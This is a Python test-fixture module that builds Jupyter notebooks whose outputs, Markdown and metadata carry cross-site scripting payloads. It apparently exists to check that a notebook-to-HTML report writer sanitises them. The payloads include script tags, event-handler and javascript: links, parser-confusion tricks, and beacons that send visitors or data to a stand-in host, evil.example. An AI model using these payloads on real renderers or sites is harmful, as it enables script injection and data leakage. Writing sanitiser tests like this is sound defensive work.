"""Notebooks whose outputs, Markdown and metadata try to run a script, to fetch, to send or to leave."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from segnet_nb import reports

GO = "window.ran=1"
AWAY = "https://evil.example/taken"
BREAK = f"\"'></code></pre></div></title></style></textarea><script>{GO}</script><img src=x onerror={GO}>"

MARKUP = {
    "script": f"<script>{GO}</script>",
    "script-of-data": f'<script src="data:text/javascript,{GO}"></script>',
    "module": f'<script type="module">{GO}</script>',
    "import-map": '<script type="importmap">{"imports": {"a": "' + AWAY + '"}}</script>',
    "image-error": f'<img src="x" onerror="{GO}">',
    "image-name": f'<img name="currentScript"><img name="getElementById" src="x" onerror="{GO}">',
    "drawing-load": f'<svg onload="{GO}"><script>{GO}</script></svg>',
    "drawing-animate": f'<svg><animate attributeName="href" values="javascript:{GO}"/>'
    "<a><text>x</text></a></svg>",
    "toggle": f'<details open ontoggle="{GO}"><summary>x</summary></details>',
    "focus": f'<input autofocus onfocus="{GO}"><select autofocus onfocus="{GO}"></select>',
    "media-error": f'<video><source onerror="{GO}"></video><audio src="x" onerror="{GO}"></audio>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "base": f'<base href="{AWAY}">',
    "frame": f"<iframe srcdoc='<script>parent.{GO}</script>'></iframe><iframe src=\"{AWAY}\"></iframe>",
    "object": f'<object data="{AWAY}"></object><embed src="{AWAY}">',
    "form": f'<form action="{AWAY}"><input name="a"><button>x</button></form>'
    "<script>document.forms[0].submit()</script>",
    "style-sheet": f'<style>@import "{AWAY}"; body {{ background: url({AWAY}) }}</style>'
    f'<link rel="stylesheet" href="{AWAY}">',
    "prefetch": f'<link rel="prefetch" href="{AWAY}"><link rel="dns-prefetch" href="{AWAY}">',
    "style": f'<p style="position: fixed; inset: 0; background: url({AWAY})">x</p>',
    "image-elsewhere": f'<img src="{AWAY}"><picture><source srcset="{AWAY}"><img src="{AWAY}"></picture>',
    "link": f'<a id="link" href="javascript:{GO}">x</a>',
    "link-with-a-line-break": f'<a id="link" href="java&#10;script:{GO}">x</a>',
    "link-of-data": f'<a id="link" href="data:text/html,<script>{GO}</script>">x</a>',
    "ping": f'<a id="link" href="#here" ping="{AWAY}">x</a>',
    "confused-parser": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={GO}&gt;">',
    "without-scripts": f'<noscript><p title="</noscript><img src=x onerror={GO}>"></noscript>',
    "template": f'<template><img src="x" onerror="{GO}"></template>'
    f'<div><template shadowrootmode="open"><img src="x" onerror="{GO}"></template></div>',
    "end-of-page": f"</div></main></body></html><script>{GO}</script>",
    "widget-by-hand": '<div data-standalone><script type="application/json" data-module="0">'
    f'"{GO}"</script></div>',
}


def output(kind: str, content: Any, **metadata: Any) -> NotebookNode:
    shown = new_output("display_data", data={kind: content, "text/plain": "x"}, metadata=metadata)
    return new_notebook(cells=[new_code_cell("show", outputs=[shown], execution_count=1)])


def markdown(text: str, **options: Any) -> NotebookNode:
    return new_notebook(cells=[new_markdown_cell(text, **options)])


def widget() -> NotebookNode:
    view = "application/vnd.jupyter.widget-view+json"
    found = output(view, {"model_id": "m", "version_major": 2, "version_minor": 0})
    state = {"_esm": f"{GO}; export default {{}}", "_css": "", "standalone": True}
    models = {"state": {"m": {"model_name": "AnyModel", "state": state, "buffers": []}}}
    found.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": models}
    return found


def failed() -> NotebookNode:
    shown = new_output("error", ename=BREAK, evalue=BREAK, traceback=[BREAK, f"\x1b[31m{BREAK}\x1b[0m"])
    return new_notebook(cells=[new_code_cell(BREAK, outputs=[shown], execution_count=1)])


def with_metadata() -> NotebookNode:
    cell = new_markdown_cell(
        "text", metadata={"tags": [BREAK], "name": BREAK, "slideshow": {"slide_type": BREAK}}
    )
    parameters = new_code_cell(f'a: str = "{GO}"  # {BREAK}', metadata={"tags": ["parameters", BREAK]})
    names = {"name": BREAK, "pygments_lexer": BREAK, "mimetype": BREAK, "version": BREAK}
    report = {"notebook": BREAK, "failure": {"message": BREAK, "cell_index": 0}, "versions": {BREAK: BREAK}}
    return new_notebook(
        cells=[cell, parameters],
        metadata={
            "title": BREAK,
            "language_info": names,
            "kernelspec": {"name": BREAK, "display_name": BREAK, "language": BREAK},
            "segnet_nb_report": report,
            "papermill": {"start_time": BREAK},
            "authors": [{"name": BREAK}],
        },
    )


NOTEBOOKS = {
    **{f"markdown-{name}": markdown(text) for name, text in MARKUP.items()},
    **{f"output-{name}": output("text/html", text) for name, text in MARKUP.items()},
    "output-javascript": output("application/javascript", GO),
    "output-svg": output(
        "image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg"><script>{GO}</script></svg>'
    ),
    "output-markdown": output("text/markdown", MARKUP["image-error"] + BREAK),
    "output-latex": output("text/latex", f"$a$ {BREAK}"),
    "output-png": output("image/png", f'AAAA"{BREAK}'),
    "output-png-size": output("image/png", "AAAA", **{"image/png": {"width": BREAK, "height": BREAK}}),
    "output-plain": output("text/plain", BREAK),
    "output-widget": widget(),
    "failed-cell": failed(),
    "metadata": with_metadata(),
    "title": markdown(f"# {BREAK}"),
    "fence": markdown(f"```{BREAK}\n{BREAK}\n```\n\n```mermaid\n{BREAK}\n```"),
    "formula": markdown(f"$\\text{{{BREAK}}}$\n\n$$\\href{{javascript:{GO}}}{{x}}$$"),
    "attachment": markdown("![a](attachment:a.png)", attachments={"a.png": {f'image/png"{BREAK}': BREAK}}),
    "link-in-markdown": markdown(f"[x](javascript:{GO}) [y](<data:text/html,{GO}>) ![z](javascript:{GO})"),
}


def page_of(notebook: NotebookNode, folder: Path, **options: Any) -> Path:
    path = folder / "hostile.ipynb"
    path.write_text(nbformat.writes(notebook), encoding="utf-8")
    return reports.write_html(path, **options)
